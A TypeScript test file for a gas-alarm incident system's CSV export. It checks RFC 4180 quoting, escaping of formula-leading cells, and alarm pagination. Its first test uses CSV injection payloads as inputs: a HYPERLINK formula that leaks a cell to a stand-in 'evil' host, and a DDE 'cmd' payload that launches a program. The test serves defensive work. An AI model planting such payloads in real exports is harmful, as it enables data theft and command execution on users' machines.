/** Issue 21: CSV cells are formula-safe (OWASP CSV injection) and RFC 4180 quoted. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alarm } from '@gwanje/protocol';
import { CSV_BOM, csvCell, csvRow } from '../../src/incident/csv.js';
import { alarmPages } from '../../src/incident/tables.js';

test('cells starting with = + - @ TAB or CR are prefixed so spreadsheets show text, not a formula', () => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://evil/?x="&A1,"click")', `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ['CH4 60 %LEL', 'CH4 60 %LEL'],
    ['수원시 가스 누출', '수원시 가스 누출'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
  ];
  for (const [input, want] of cases) assert.equal(csvCell(input), want, JSON.stringify(input));
});

test('numbers stay numbers (a negative temperature is not text), empty for absent and non-finite', () => {
  assert.equal(csvCell(-3.5), '-3.5');
  assert.equal(csvCell(0), '0');
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(Number.NaN), '');
  assert.equal(csvRow(['a', 1, undefined, '=x']), "a,1,,'=x\r\n");
  assert.equal(CSV_BOM, '\uFEFF');
});

test('alarm pages neither lose nor repeat alarms that share a millisecond across a page edge', async () => {
  // 4,500 alarms, several per millisecond, newest first like the repository.
  const all: Alarm[] = [];
  for (let i = 0; i < 4500; i++) {
    const raisedAt = 1_763_900_000_000 + Math.floor(i / 7);
    all.push({ id: `a-${String(i).padStart(5, '0')}`, raisedAt } as Alarm);
  }
  all.sort((a, b) => b.raisedAt - a.raisedAt || b.id.localeCompare(a.id));
  const list = async (q: { to?: number; limit?: number }) =>
    all.filter((a) => q.to === undefined || a.raisedAt < q.to).slice(0, q.limit);
  const seen: string[] = [];
  for await (const page of alarmPages(list, {})) seen.push(...page.map((a) => a.id));
  assert.equal(seen.length, all.length);
  assert.equal(new Set(seen).size, all.length);
});
